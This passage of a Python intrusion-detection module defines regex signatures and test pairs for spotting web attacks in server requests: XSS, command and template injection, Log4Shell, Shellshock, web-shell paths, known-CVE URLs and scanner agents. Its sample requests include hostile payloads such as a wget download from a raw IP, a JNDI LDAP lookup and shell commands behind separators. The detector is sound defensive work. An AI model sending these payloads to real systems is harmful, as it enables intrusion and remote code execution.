      b"onhashchange", b"ondrop", b"oncopy", b"oncut", b"onpaste", b"oncontextmenu", b"ondblclick", b"onwheel", b"onmessage", b"onpopstate",
      b"onunload", b"onbeforeunload", b"onreadystatechange", b"onactivate", b"onshow", b"onrepeat", b"oncancel", b"onreset", b"onsearch",
      b"oninvalid", b"onauxclick", b"onmouseover", b"onmouseout", b"onmousemove", b"onmouseenter", b"onmousedown", b"onmouseup", b"onmouseleave",
      b"onkeyup", b"onkeydown", b"onkeypress", b"onpointerdown", b"onpointerup", b"onpointerover", b"onpointerenter", b"onpointermove",
      b"onpointerleave", b"onpointerout", b"onpointerrawupdate", b"onanimationstart", b"onanimationend", b"onanimationiteration",
      b"onanimationcancel", b"ontransitionend", b"ontransitionstart", b"ontransitionrun", b"ontransitioncancel", b"ondrag", b"ondragstart",
      b"ondragend", b"ondragover", b"ondragenter", b"ondragleave", b"onseeked", b"onseeking"),
     br"(?:[\s\"'/<>;&\x00]|^)on(?:error|load|click|mouse(?:over|out|move|enter|down|up|leave)|focus(?:in|out)?|blur|toggle|start|begin|end|finish|bounce"
     br"|key(?:up|down|press)|submit|change|input|select|resize|scroll|pageshow|pagehide|hashchange|pointer(?:down|up|over|enter|move|leave|out"
     br"|rawupdate)|animation(?:start|end|iteration|cancel)|transition(?:start|end|run|cancel)|drag(?:start|end|over|enter|leave)?|drop|copy|cut|paste"
     br"|contextmenu|dblclick|wheel|message|popstate|unload|beforeunload|readystatechange|activate|show|repeat|seek(?:ed|ing)|cancel|reset|search|invalid"
     br"|auxclick)\s{0,5}=\s{0,5}(?:[\"'`]|[\w.$]{1,40}[(`]|\w+\s{0,3}=|[\w.]+$|javascript)",
     "an event handler of HTML", "GET /search?q=\" onmouseover=alert(1) x", "GET /map?onload=1&x=2"),
    ("xss_script", "xss", "medium", "target",
     (b"javascript+:", b"vbscript+:", b"livescript+:", b"document+document.", b"window+window.", b"window+window[", b"alert+(", b"alert+`",
      b"alert+&lpar", b"prompt+(", b"prompt+`", b"prompt+&lpar", b"confirm+(", b"confirm+`", b"confirm+&lpar", b"eval+(", b"eval+`",
      b"eval+&lpar", b"settimeout+(", b"settimeout+`", b"settimeout+&lpar", b"setinterval+(", b"setinterval+`", b"setinterval+&lpar", b"atob+(",
      b"atob+`", b"atob+&lpar", b"fromcharcode", b"expression+(", b"moz", b"srcdoc", b"data+data:", b"constructor+(", b"top+[", b"self+[",
      b"this+[", b"parent+[", b"innerhtml+.innerhtml", b"location+location.", b"location+'", b"location+\""),
     br"\b(?:javascript|vbscript|livescript)\s?:[^\s&=]|\bdocument\.(?:cookie|domain|write|location|body|createelement|getelement)"
     br"|\bwindow(?:\.(?:location|open|name)\b|\[)|\b(?:alert|prompt|confirm|eval|settimeout|setinterval|atob)(?:\s?\(\s?[\d'\"/`]|\([a-z(]|`|&lpar)"
     br"|string\.fromcharcode\b|[:;]\s?expression\s?\(|-moz-binding|\bsrcdoc\s?=|\bdata:text/html|\.constructor\s?\(|\b(?:top|self|this"
     br"|parent)\s?\[\s?['\"/]|\.innerhtml\b|\blocation\s?=\s?['\"]|\blocation\.(?:hash|href|search)\b",
     "JavaScript in a request", "GET /?x=javascript:alert(1)", "GET /search?q=javascript:+the+good+parts"),
    # ---- commands, code, templates
    ("command", "injection", "medium", "target", (b";", b"|", b"`", b"$(", b"&&", b"\x0b", b"\x0c"),
     br"(?:;|\|{1,2}|&&|`|\$\(|\x0b|\x0c)\s{0,5}(?:/?(?:usr/)?s?bin/)?(?:whoami|uname|wget|curl|ifconfig|ipconfig|netstat|nslookup|powershell|busybox"
     br"|chmod|ncat|nc\s|tftp|telnet|phpinfo|systeminfo|tasklist|hostname|printenv|"
     br"cat\s{0,3}[/$<{.'\"~]|(?:sleep|timeout|ping)\s{1,3}(?:-\w\s?)?\d|id\s{0,3}(?:$|[;|&`)#\s])|ls\s{0,3}(?:$|-\w|/|[;|&`)#])|echo\s{0,3}[$'\"`(\d-]"
     br"|echo\s+\w+\s*[|>;]|dir\s{0,3}(?:$|[a-z]:|[;|&])|type\s{1,3}\S{0,30}[/.:]|(?:ba|z|da|k|c)?sh\s{1,3}[-/<]|(?:python|perl|ruby|php"
     br"|node)[\d.]{0,4}\s{1,3}-|rm\s{1,3}-|ps\s{0,3}(?:$|-|aux|[;|&])|set\s{0,3}(?:$|[;|&])|env\s{0,3}(?:$|[;|&])|ver\s{0,3}(?:$|[;|&])|pwd\s{0,3}(?:$"
     br"|[;|&`])|dig\s{1,3}[\w.-]+\.|host\s{1,3}[\w.-]+\.|find\s{1,3}[/.]|touch\s{1,3}/|reg\s{1,3}query|net\s{1,3}(?:user|view|localgroup)"
     br"|del\s{1,3}\S)(?![\w=-]*=)",
     "a shell command behind a separator", "GET /ping?host=1.1.1.1;cat /etc/hosts", "GET /search?q=fish;chips&id=5"),
    ("command_name", "injection", "high", "any",
     (b"wget+ ", b"wget+\x0b", b"wget+\x0c", b"curl+ ", b"curl+\x0b", b"curl+\x0c", b"bin+bin/", b"cmd+/c", b"cmd+.exe", b"powershell",
      b"cd+/tmp", b"chmod", b"rm+-rf", b"busybox", b"sbin+bin/"),
     br"\b(?:wget|curl)\b\s{1,3}(?:-{1,2}[\w-]{1,20}\s{1,3}){0,6}[\"']?(?:https?:|ftp:|\d{1,3}\.|[\w.-]{3,60}/)|(?:^|[=\s;"
     br"|(`/])(?:usr/(?:local/)?)?s?bin/(?:(?:ba|z|k|c|da)?sh|cat|id|ls|ps|nc|ping|uname|wget|curl|python\d?|perl)(?:$|[\s;|&?)'\"`])"
     br"|\bcmd(?:\.exe)?\s?/c\b|\bcmd\.exe\b|\bpowershell(?:\.exe)?\s{1,3}-\w|\bcd\s{1,3}/tmp\b|\bchmod\s{1,3}(?:\+x|\d{3,4})\s|\brm\s{1,3}-rf\b"
     br"|\bbusybox\s{1,3}\w",
     "a program of the system", "GET /cgi-bin/x?cmd=wget http://198.51.100.1/a.sh", "GET /search?q=curl+cream"),
    ("php_code", "injection", "high", "target",
     (b"phpinfo+(", b"base64_decode+(", b"shell_exec+(", b"exec+(", b"system+(", b"passthru+(", b"popen+(", b"proc_open+(", b"pcntl_exec+(",
      b"assert+(", b"call_user_func", b"call_user_func_array", b"invokefunction", b"allow_url_include", b"auto_prepend_file",
      b"file_get_contents", b"file_put_contents", b"fwrite+(", b"print+(", b"die+(", b"echo+(", b"var_dump+(", b"gzinflate+(", b"md5+(", b"<?",
      b"$_"),
     br"<\?(?:php|=|\s)|\bphpinfo\s{0,3}\(|\bbase\d\d_decode\s{0,3}\(|\b(?:shell_exec|exec|system|passthru|popen|proc_open|assert"
     br"|pcntl_exec)(?:\s{0,2}\(\s{0,3}[$'\"]|\(\w)|\bcall_user_func(?:_array)?\b|\binvokefunction\b|\ballow_url_include\b|\bauto_prepend_file\b"
     br"|\bfile_(?:get|put)_contents\b|\bfwrite\s?\(|\b(?:print|die|echo|var_dump)\b\s?\(?\s?(?:md\d|chr|base\d\d|\$_|sha\d)\s?\(|\bgzinflate\s?\("
     br"|\$_(?:get|post|request|server|cookie|files|session|env)\b|\bmd\d\s?\(\s?[\d'\"]",
     "PHP code", "GET /index.php?s=/index/think\\app/invokefunction&function=call_user_func_array", "GET /search?q=php+system"),
    ("template", "injection", "high", "any",
     (b"getruntime", b"processbuilder", b"ognl", b"java+java.lang", b"classloader", b"freemarker", b"set+#set", b"{", b"<%", b"*__class__",
      b"*__globals__", b"*__subclasses__", b"*__builtins__", b"*__mro__", b"*__init__", b"*__import__", b"*__base__"),
     br"\{\{[-\s]{0,3}(?:\d{1,9}\s?[*+]\s?'?\d|config\b|self\b|request\.|''|\"\"|\[\]|\(\)|_self|lipsum|cycler|joiner|url_for\.|get_flashed|constructor"
     br"|this\.|range\.|app\.|\$on\b|dump\()|[$#*@]\{\s{0,3}(?:\d{1,9}\s?[*+]\s?\d|t\(|@|#|script:|dns:|url:|java|new\s|class\.|\"|'|request\b|session"
     br"|application|system\b|process|%x|`|ifs\b)|<%(?:=\s{0,3}\d|[=-]?\s{0,3}(?:system|`|file|dir|io\.|exec|eval|response|runtime|%x))|__(?:class"
     br"|globals|subclasses|builtins|mro|init|import|base)__|\bgetruntime\b|\bprocessbuilder\b|\bognl\b|\bjava\.lang\.|class(?:\.module)?\.classloader\b"
     br"|\bfreemarker\.template|#set\s?\(\s?\$|\{%\s{0,3}(?:for|if|set|import|debug|include|raw)\b",
     "a template expression that the server would evaluate", "GET /?name={{7*7}}", "GET /images/{{photo.url}}"),
    ("header_split", "injection", "medium", "target", (b"\x0b", b"\x0c"),
     br"[\x0b\x0c]{1,4}\s?(?:set-cookie|location|content-(?:type|length|disposition)|x-[\w-]{2,30}|http/\d|refresh|link|access-control-[\w-]{2,30}"
     br"|[\w-]{3,30})\s?:",
     "a header behind a line break", "GET /go?to=x%0d%0aset-cookie:a=b", "GET /notes?text=a%0ab"),
    ("xxe", "injection", "medium", "target", (b"<!", b"xi:include", b"<xsl:"),
     br"<!(?:entity|doctype|element|attlist)\b|\bxi:include\b|<xsl:",
     "XML that reads files", "GET /?xml=<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>", "GET /entity"),
    ("prototype", "injection", "medium", "target", (b"constructor", b"*__proto__", b"[$"),
     br"__proto__(?:\[|\.)|\bconstructor(?:\[|\.)prototype|\[\$(?:ne|gte?|lte?|regex|where|exists|nin|in|eq)\]",
     "an object changed through its prototype, or an operator of MongoDB", "GET /?__proto__[x]=1", "GET /?filter[price][gt]=5"),
    ("null_byte", "injection", "medium", "target", (b"\x00",),
     br"[\w./]\x00",
     "a null byte that cuts a name", "GET /download?file=report.pdf%00.jpg", "GET /a"),
    # ---- headers and everywhere
    ("log4shell", "log4shell", "high", "any", (b"jndi", b"${"),
     br"\$\{\s{0,3}jndi\b|\$\{[^}\x0b]{0,60}\$\{|\$\{(?:lower|upper|env|sys|main|date|ctx|base\d\d|hostname|log\dj|::|:)\s{0,3}:|\bjndi:(?:ldaps?|rmi|dns"
     br"|iiop|corba|nis|nds|http)",
     "CVE-2021-44228", "GET /?x=${jndi:ldap://198.51.100.7/a}", "GET /images/${photo}"),
    ("shellshock", "shellshock", "high", "any", (b"()",),
     br"(?<![\w)])\(\)\s?\{\s{0,3}(?::|_|[^}]{0,60}\}?\s{0,3};|ignored)",
     "CVE-2014-6271", "GET /cgi-bin/x?a=() { :;}; /bin/id", "GET /?x=f(){}"),
    # ---- web shells
    ("webshell", "webshell", "critical", "path", (b"php+.php", b"phtml+.phtml", b"asp+.asp", b"aspx+.aspx", b"jsp+.jsp", b"jspx+.jspx", b"cgi+.cgi"),
     br"/(?:c99|c100|r57|wso|b374k|alfa\w{0,8}|webshell|shell|cmd|antichat|indoxploit|leaf(?:mailer)?|marijuana|gel4y|filesman|symlink|xleet\w{0,8}"
     br"|backdoor|sh3ll|priv8|p0wny\w{0,6}|lufix|adminfuns|wp[-_]filemanager|wp-shell|hack\w{0,6}|autoload_classmap|0x\w{1,8})\d{0,4}\.(?:php\d?|phtml"
     br"|aspx?|jspx?|cgi)(?:$|/)",
     "a shell that somebody else left behind", "GET /uploads/c99.php", "GET /blog/c99.html"),
    ("webshell_name", "?webshell", "critical", "path", (b"php+.php", b"phtml+.phtml", b"asp+.asp", b"aspx+.aspx", b"jsp+.jsp", b"jspx+.jspx"),
     br"/(?:up(?:load(?:er|s)?)?|mini|fox|mari|tiny|chosen|simple|radio|about|style|moduless|buy|doc|bypass|[a-z]{0,3}\d{0,4})\d{0,3}\.(?:php\d?|phtml"
     br"|aspx?|jspx?)$",
     "the short names that shells are given", "GET /wp-includes/x7.php", "GET /products.php"),
    ("webshell_call", "webshell", "critical", "target", (b"whoami", b"uname", b"wget", b"curl", b"phpinfo", b"/shell?", b"=id", b"=cat", b"=ls", b"=net "),
     br"^/shell\?|\?(?:cmd|c|exec|command|execute|e|run|pass|x|shell|code|do)=(?:whoami|id|uname\b|cat\b|ls\b|wget\b|curl\b|net\s|phpinfo)(?:$|[\s&;(])",
     "a command given to a shell", "GET /x.php?cmd=whoami", "GET /search?cmd=identity"),
    # ---- known vulnerable paths
    ("cve_php", "cve", "critical", "path",
     (b"phpunit", b"eval", b"_ignition", b"think", b"thinkphp", b"thinkapp", b"think_php", b"think_app", b"cgi", b"phpinfo", b"getphpinfo",
      b"laravel", b"elfinder", b"ckfinder", b"fckeditor", b"kcfinder", b"timthumb", b"revslider", b"vbulletin", b"render", b"autodiscover"),
     br"/phpunit/|\beval-stdin\.php|/_ignition/|\bthink[/_]?(?:php|app)\b|\bphp-cgi\b|/(?:get)?phpinfo(?:\.php\d?)?$|/laravel-filemanager|/(?:elfinder"
     br"|ckfinder|fckeditor|kcfinder|timthumb|revslider|vbulletin)\b|/ajax/render/widget|/autodiscover/autodiscover",
     "PHP libraries with known holes", "POST /vendor/phpunit/phpunit/src/Util/PHP/\beval-stdin.php", "GET /php/unit"),
    ("cve_java", "cve", "critical", "path",
     (b"actuator", b"jolokia", b"solr", b"_async", b"wls", b"invoker", b"jmx", b"manager+/manager/", b"manager+/host-manager/", b"axis",
      b"nacos", b"druid", b"geoserver", b"securityrealm", b"tinymce", b"webtools", b"functionrouter", b"console+/console/", b"action+.action",
      b"_+/_/", b"jenkins", b"hudson", b"script+/script", b"cluster+/cluster/"),
     br"^/(?:[\w-]{1,30}/){0,2}(?:actuator(?:/(?:env|heapdump|gateway|logfile|mappings|jolokia|threaddump|beans|configprops|httptrace|trace|refresh"
     br"|restart|shutdown)|$|/$)|jolokia(?:/|$)|solr/(?:admin|#|select|\w+/(?:config|select|dataimport))|_async/|wls-wsat/|invoker/(?:jmx|ejb|readonly)"
     br"|jmx-console\b|manager/(?:html|text|status)|host-manager/|axis\d(?:-admin|-web|/)|nacos/|druid/(?:index|login|v\d|indexer)|geoserver/"
     br"|securityrealm/|rest/tinymce\b|webtools/control|functionrouter\b)|^/console/(?:login|j_security|css|framework|images/%|\.)|\.action$"
     br"|^/s/[^/]{3,80}/_/;/|^/(?:jenkins|hudson)/(?:script|login|securityrealm|asynchpeople)|^/script$|^/cluster/(?:cluster|apps|nodes)",
     "Java servers with known holes", "GET /actuator/heapdump", "GET /in-action"),
    ("cve_appliance", "cve", "critical", "path",
     (b"remote", b"hnap", b"gponform", b"boaform", b"cgi", b"dana", b"dana-na", b"vpn", b"vpns", b"cscoe", b"ecp", b"mapi", b"ews",
      b"tmui", b"mgmt", b"vcav", b"ui", b"websso",
      b"protect", b"ssl", b"goform", b"device", b"evox", b"onvif", b"isapi", b"getcfg", b"picsdesc", b"ctrlt", b"wanipcn", b"tr064",
      b"ws_utc", b"adminui", b"sslvpn", b"sslmgr",
      b"jsonws", b"nmaplowercheck", b"sitecore", b"_layouts", b"telescope", b"cfide", b"cf_scripts", b"networkdiag", b"_catalog", b"_cat",
      b"_cluster", b"_nodes", b"containers"),
     br"^/remote/(?:fgt_lang|login|logincheck|error|info|hostcheck_validate)\b|/hnap1\b|^/gponform/|/boaform/|/(?:setup|networkdiag|set_ftp|apply|soap"
     br"|luci)\.cgi\b|^/dana-(?:na|ws|cached|admin)/|^/vpns?/(?:index\.html|portal|cfg|\.\./|js/)|\bcscoe\b|^/ecp/|^/mapi/(?:nspi|emsmdb)|^/ews/exchange"
     br"|^/tmui/|^/mgmt/(?:tm|shared)/|^/ui/(?:vcav-|vropspluginui|login\.action)|^/websso/|^/global-protect/|^/ssl-vpn/|^/goform/|/device\.rsp|^/evox/"
     br"|^/onvif/|^/isapi/|/getcfg\.php|/picsdesc\.xml|/ctrlt/|/wanipcn\.xml|^/tr064\b|/ws_utc/|^/adminui/|^/sslvpn\b|^/sslmgr\b|^/api/jsonws/"
     br"|^/nmaplowercheck\d*(?:/|$)|^/sitecore/|^/_layouts/|^/telescope/requests|/cfide/|/cf_scripts/"
     br"|^/v2/_catalog\b|^/_(?:cat|cluster|nodes)(?:/|$)|^/containers/json",
     "routers, cameras, VPN gateways, groupware and cluster interfaces", "GET /+CSCOE+/logon.html", "GET /remote-jobs"),
    ("cve_service", "?cve", "high", "target",
     (b"cgi", b"owa", b"sdk", b"aspnet_client", b"_search", b"dns-query", b"resolve", b"autodiscover", b"/login.", b"/json/version"),
     br"/cgi-bin(?:/|$)|^/cgi/|^/owa(?:/|$)|^/sdk/?$|^/aspnet_client(?:/|$)|^/_search(?:\?|$)|^/dns-query\?(?:dns|name)=|^/resolve\?name=|^/json/version$"
     br"|^/autodiscover/|^/login\.(?:html?\?|action|cgi|asp)",
     "services that some servers really have", "GET /cgi-bin/luci", "GET /owasp"),
    ("cve_parameter", "cve", "high", "target",
     (b"xdebug_session_start", b"classloader", b"graphapi", b"fgt_lang", b"request+view=request", b"routestring", b"captcha", b"rest_route",
      b"?author=", b"provider-logo", b"{", b"option=com_", b"__construct", b"s=/index", b"s=index", b"?-"),
     br"/provider-logo\?url=|\bxdebug_session_start=|class\.module\.classloader\b|=%\{[^}]{0,200}(?:#|@|\d\*|\*\d|\(\')|\bredirect:\$\{|/graphapi/"
     br"|\bfgt_lang\?lang=/|view=request&request=log&task=create|view=request&request=[^&]+&[^?]{0,300}\bcommand=\w"
     br"|option=com_\w+&[^?]{0,200}(?:controller=\.|view=|list\[)|\broutestring=|_method=__construct\b|\bs=(?:/index/|captcha\b|index/)|\?author=\d{1,3}$"
     br"|\brest_route=/wp/|\?-d\s|\?-s$|\?-d\x00",
     "parameters of known holes", "GET /path/?class.module.classLoader.URLs[0]=0", "GET /books?author=12&page=2"),
    ("cve_frontend", "?cve", "high", "path",
     (b"server", b"nginx_status", b"debug", b"debugbar", b"trace", b"elmah", b"_profiler", b"horizon", b"__debug__", b"_debugbar", b"swagger",
      b"openapi", b"info", b"test", b"env", b"heapdump", b"haproxy", b"api-docs"),
     br"^/(?:server-(?:status|info)|nginx_status|debug(?:/(?:default|pprof|vars)|bar)|trace\.axd|elmah\.axd|_profiler|horizon/api|__debug__|_debugbar"
     br"|swagger(?:-ui)?(?:\.html|\.json|/index\.html|/v\d/swagger\.json|/swagger-ui\.html|-ui\.html|-resources)|(?:v\d/)?api-docs(?:/swagger\.json)?"
     br"|openapi\.json|api/swagger\.(?:json|html)|info\.php|test\.php|env|heapdump|haproxy\?stats)/?$",
     "status and debug pages", "GET /server-status", "GET /server-status-report"),
    # ---- CMS and admin panels
    ("wordpress", "?cms_admin", "medium", "path", (b"wp", b"xmlrpc", b"wlwmanifest", b"wordpress", b"old"),
     br"/wp-(?:admin|login|content|includes|json|cron|comments|signup|trackback|mail|links|load|activate|settings|blog|register|feed|atom|rss|good)"
     br"|/xmlrpc\.php|/wlwmanifest\.xml|^/(?:wp\d?|wordpress|blog/wp|old-wp)/?$",
     "WordPress", "GET /blog/wp-login.php", "GET /wp-tips-and-tricks"),
    ("php_admin", "cms_admin", "high", "path",
     (b"phpmyadmin", b"phpmyadm", b"phpma", b"my_admin", b"myadmin", b"my+my-", b"adminer", b"adminneo", b"dbadmin", b"db+db/", b"db+db-",
      b"mysqladmin", b"mysqlmanager", b"mysqldumper", b"mysql+mysql/", b"mysql+mysql-", b"sqlweb", b"sqladmin", b"sqlmanager", b"sql+sql/",
      b"sql+sql-", b"webdb", b"websql", b"web+web/", b"web+web-", b"phppgadmin", b"pgadmin", b"pg+pg-", b"phpredmin", b"sqlbuddy",
      b"sqlitemanager", b"sqlite+sqlite-", b"pma", b"phpmy", b"admin+-admin"),
     br"/[~.]?(?:(?:php-?my-?admin|phpmyadm|phpma|pma|my-?admin|adminer|adminneo|db-?admin|mysql-?admin|php-?pg-?admin|pgadmin|phpredmin|sqlbuddy"
     br"|sqlite-?manager)[\d.-]{0,12}(?:[.-](?:old|new|bak|all|beta|en|english|test|web))?(?:/|\.php|$)|(?:mysql-?(?:manager|dumper)?|sql-?(?:web|admin"
     br"|manager)?|web-?(?:db|sql)?|db)/(?:(?:\w{1,12}/)?index\.php|scripts/setup|main\.php|phpmyadmin|myadmin))",
     "database panels", "GET //phpMyAdmin-2.8.2.3/scripts/setup.php", "GET /mysql-tuning-guide"),
    ("cms_panel", "?cms_admin", "high", "path",
     (b"administrator", b"typo", b"joomla", b"drupal", b"magento", b"downloader", b"cpanel", b"whm", b"plesk", b"webmail", b"roundcube",
      b"squirrelmail", b"horde", b"zimbra", b"rutorrent", b"grafana", b"kibana", b"zabbix", b"cacti", b"nagios", b"portainer", b"webdav",
      b"sites", b"umbraco", b"bitrix", b"moodle", b"owncloud", b"nextcloud", b"prestashop", b"opencart", b"xampp", b"siteadmin", b"airflow",
      b"admin+/admin/", b"cms", b"panel", b"backend", b"install+/install", b"setup+/setup", b"app_dev", b"mt", b"w00tw00t", b"skin",
      b"recordings", b"a2billing", b"vicidial", b"filemanager", b"ueditor", b"vendor+/vendor/", b"readme", b"license", b"changelog",
      b"muieblackcat", b"/scripts/"),
     br"^/(?:[\w.-]{1,30}/)?(?:administrator|downloader|sites/default)(?:/|$)|^/(?:typo\d|joomla|drupal|magento|cpanel|whm|plesk|webmail|roundcube"
     br"|squirrelmail|horde|zimbra|rutorrent|grafana|kibana|zabbix|cacti|nagios|portainer|webdav|umbraco|bitrix|moodle|owncloud|nextcloud|prestashop"
     br"|opencart|xampp|siteadmin|airflow|recordings|a\dbilling|vicidial|filemanager|ueditor|vendor|scripts/(?:setup|root|\.\.))(?:/|$|\.)"
     br"|^/misc/drupal\.js|^/admin/(?:config|phpinfo|controller|fckeditor|pma|mysql)[/.]|/admin/(?:index|login|account)\.php|^/(?:cms|panel|backend"
     br"|install|setup)/?(?:index\.\w+|admin|login)?/?$|/app_dev\.php|/mt-(?:check|xmlrpc|admin)\b|/w\d\dtw\d\dt\.|^/core/skin/login|^/(?:readme|license"
     br"|changelog|install)\.(?:txt|html|md)$|/muieblackcat\b",
     "panels and files of content management systems", "GET /administrator/index.php", "GET /administrators-handbook"),
    ("admin_page", "?cms_admin", "medium", "path",
     (b"admin+/admin", b"manager+/manager", b"user+/user/login", b"adminpanel", b"adminconsole", b"adminarea", b"adminlogin", b"admincp",
      b"adminportal", b"admincenter", b"admin_login"),
     br"^/(?:admin(?:\d|-?(?:panel|console|area|login|cp|portal|center))?(?:/(?:login|index|dashboard|admin)?)?|admin_?login|user/login|manager/?"
     br"|admin/login\.\w+)$",
     "the usual names of an administration", "GET /adminpanel", "GET /admin/orders/12"),
    ("foreign_script", "?cms_admin", "medium", "path",
     (b"php+.php", b"phtml+.phtml", b"phar+.phar", b"asp+.asp", b"aspx+.aspx", b"ashx+.ashx", b"asmx+.asmx", b"ascx+.ascx", b"axd+.axd",
      b"jsp+.jsp", b"jspx+.jspx", b"jspa+.jspa", b"jhtml+.jhtml", b"cfm+.cfm", b"cgi+.cgi", b"pl+.pl", b"do+.do", b"action+.action", b"dll+.dll",
      b"exe+.exe"),
     _SCRIPT + br"(?:/[\w./-]*)?(?:~|\.\w{1,5})?$",
     "a script in a language that this server does not speak", "GET /index.php", "GET /php/index.html"),
    # ---- open proxy tries
    ("proxy_connect", "open_proxy", "critical", "line", (b"connect",),
     br"^connect\s[\w.:\[\]-]{1,255}(?:\s|$)",
     "CONNECT: a tunnel to another server", "CONNECT foo.com:25 HTTP/1.1", "GET /connect to"),
    ("proxy_absolute", "open_proxy", "critical", "line", (b" http://", b" https://", b" ftp://", b" tcp://"),
     br"^[a-z]{3,20} (?:https?|ftp|tcp)://[^/\s]{1,255}",
     "a request for another server's page", "GET http://www.example.net/ip4.php HTTP/1.0", "GET /?u= http//x"),
    # ---- scanners
    ("scanner_agent", "scanner", "info", "agent",
     (b"sqlmap", b"nikto", b"nmap", b"masscan", b"zgrab", b"nuclei", b"wpscan", b"dirbuster", b"gobuster", b"feroxbuster", b"wfuzz", b"ffuf",
      b"acunetix", b"netsparker", b"nessus", b"openvas", b"w3af", b"arachni", b"skipfish", b"havij", b"zmeu", b"morfeus", b"jorgee", b"whatweb",
      b"wapiti", b"joomscan", b"droopescan", b"cmsmap", b"commix", b"xsstrike", b"xsser", b"tplmap", b"sqlninja", b"detectify", b"fimap",
      b"l9explore", b"l9tcpid", b"ironwasp", b"appscan", b"hydra", b"panoptic", b"ghauri", b"wprecon", b"shortscan", b"jsql", b"trufflehog",
      b"pmafind", b"fuzz faster", b"mozlila", b"jbrofuzz", b"betabot", b"bfac", b"netlab", b"nettacker", b"webshag", b"dotdotpwn", b"kadimus",
      b"lfisuite", b"lfimap", b"noseyparker", b"hello, world", b"hello world", b"whatwaf", b"mozilla/5.g", b"sitelockspider", b"sysscan",
      b"securityagent", b"hexometer", b"webbandit", b"appspider", b"vega", b"zaproxy", b"yeswehack", b"sstimap", b"wpprobe", b"graphql-cop",
      b"libwhisker", b"bewica", b"nsauditor", b"leakix", b"keydrop", b"dragostea", b"core-project", b"tsunamisecurityscanner", b"qualysguard",
      b"n-stealth", b"n-stalker", b"graphw00f", b"webinspect", b"cgichk", b"censysinspect", b"tinja", b"*mozilla/5.g", b"hello"),
     br"\b(?:zgrab|sqlmap|nikto|nmap|masscan|nuclei|wpscan|dirbuster|gobuster|feroxbuster|wfuzz|ffuf|fuzz faster|acunetix|netsparker|nessus|openvas|w3af"
     br"|arachni|skipfish|havij|zmeu|morfeus|jorgee|whatweb|wapiti|joomscan|droopescan|cmsmap|commix|xsstrike|xsser|tplmap|sqlninja|detectify|fimap"
     br"|l9explore|l9tcpid|ironwasp|qualysguard|n-stealth|n-stalker|appscan|panoptic|ghauri|wprecon|wpprobe|shortscan|jsql|graphw00f|graphql-cop"
     br"|trufflehog|pmafind|tsunamisecurityscanner|mozlila|jbrofuzz|betabot|bfac|netlab360|nettacker|webshag|dotdotpwn|kadimus|lfisuite|lfimap"
     br"|noseyparker|cgichk|webinspect|whatwaf|sitelockspider|sysscan|securityagent|hexometer|webbandit|appspider|zaproxy|tinja|sstimap|libwhisker"
     br"|bewica-security-scan|nsauditor|censysinspect|leakix|yeswehack-hunter|dragostea|core-project|keydrop)\b|mozilla/5\.g|\(hydra\)|^hello,? world"
     br"|^vega\b",
     "a scanner that says so", "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; Scandinavian Shopper)"),
    # ---- not HTTP: asked only of what the server refused with 400
    ("tls_bytes", "malformed", "info", "refused", (b"\x16", b"\x80"),
     br"^\x16\x03[\x00-\x05]|^\x80[\x00-\xff]\x01\x03",
     "a TLS handshake on a port that speaks HTTP", "\\x16\\x03\\x01\\x02\\x00", "GET /16/03"),
    ("odd_version", "malformed", "info", "refused", (b"http",),
     br"\shttp/(?!0\.9\s*$|[23]\s*$)[\w.]{0,20}\s*$",
     "a version of HTTP that does not exist", "GET / HTTP/1.2", "GET / HTTP/1.1"),
    ("not_http", "malformed", "info", "refused", (b" ",),
     br"^(?![a-z_-]{3,20}\s[^\s])[^\s]",
     "another protocol, or the mark of a trojan", "145.ll|'|'|SGFjS2Vk", "GET / HTTP/1.0"),
)

# Digits of a pattern that stand for no certain digit: counts, byte codes, ranges of all digits.
_NO_DIGITS = re.compile(br"\{\d*,?\d*\}|\\x[0-9a-f]{2}|0-9")


def _signature(row):
    name, category, answered, where, literals, pattern, why, example, near_miss = row
    digits = any(sign in b"0123456789" for sign in _NO_DIGITS.sub(b"", pattern))
    return Signature(name, category.lstrip("?"), answered, category.startswith("?"), where, literals, pattern, digits, why, example, near_miss)


SIGNATURES = tuple(_signature(row) for row in _TABLE)
BY_ID = {signature.id: signature for signature in SIGNATURES}
